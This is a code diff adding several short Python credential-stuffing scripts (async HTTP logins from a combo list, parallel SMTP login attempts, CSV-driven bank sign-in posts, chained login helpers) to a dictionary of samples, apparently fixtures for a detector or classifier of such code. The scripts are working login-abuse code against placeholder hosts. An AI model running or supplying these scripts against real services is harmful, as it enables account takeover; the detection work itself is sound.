@@ -177,6 +177,44 @@ import requests
 for guess in ["Winter2024", "Spring2024"]:
     requests.post("https://intranet.rival.example/login", data={"user": "ceo", "pwd": guess})
 """,
+    "gather_stuffing": """
+import asyncio, aiohttp
+async def one(s, u, p):
+    async with s.post("https://app.target.io/login", json={"user": u, "password": p}) as r:
+        return r.status
+async def main(pairs):
+    async with aiohttp.ClientSession() as s:
+        await asyncio.gather(*(one(s, u, p) for u, p in pairs))
+pairs = [l.split(":") for l in open("combo.txt")]
+asyncio.run(main(pairs))
+""",
+    "starmap_smtp_stuffing": """
+import smtplib
+from multiprocessing import Pool
+def try_it(user, pw):
+    s = smtplib.SMTP_SSL("smtp.corp.example", 465)
+    try:
+        s.login(user, pw); return user, pw
+    except smtplib.SMTPAuthenticationError:
+        return None
+with Pool(16) as pool:
+    hits = pool.starmap(try_it, zip(users, pwds))
+""",
+    "csv_reader_stuffing": """
+import csv, requests
+def chk(row):
+    return requests.post("https://bank.example.com/signin", data={"login": row[0], "secret": row[1]})
+list(map(chk, csv.reader(open("data.csv"))))
+""",
+    "helper_chain_stuffing": """
+import requests
+def send(u, p):
+    return requests.post("https://x.example.org/api/login", json={"u": u, "p": p})
+def attempt(pair):
+    return send(*pair)
+for pair in zip(emails, open("list.txt").read().split()):
+    attempt(pair)
+""",
     "async_stuffing": """
 import asyncio
 import aiohttp
